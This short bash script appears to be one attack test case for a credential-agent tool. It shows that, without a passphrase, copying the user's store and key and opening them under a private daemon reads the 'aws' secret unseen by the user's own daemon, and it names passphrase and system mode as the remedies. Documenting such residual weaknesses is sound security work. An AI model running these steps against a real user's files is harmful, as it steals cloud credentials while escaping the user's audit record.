#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# attack: without a passphrase: copies store and key, and opens them with a daemon of its own
# expects: released
# control: none
# kind: residual
# removed-by: passphrase (see sealed_*), system mode
# cost: -
#
# Nothing of it stands in the user's record: the user's daemon isn't asked.
set -euo pipefail

copy=$HOME/copy
mkdir -m 0700 "$copy"
cp -r "$HOME/.keychain-auth" "$copy"
export HOME=$copy XDG_RUNTIME_DIR=$copy
export KEYCHAIN_AUTH_SOCKET=$copy/keychain-auth/agent.sock

keychain-auth register "$(command -v reader)" --read aws >&2
keychain-auth start --store file >&2
reader aws prize
keychain-auth stop >&2
echo "reason: released"
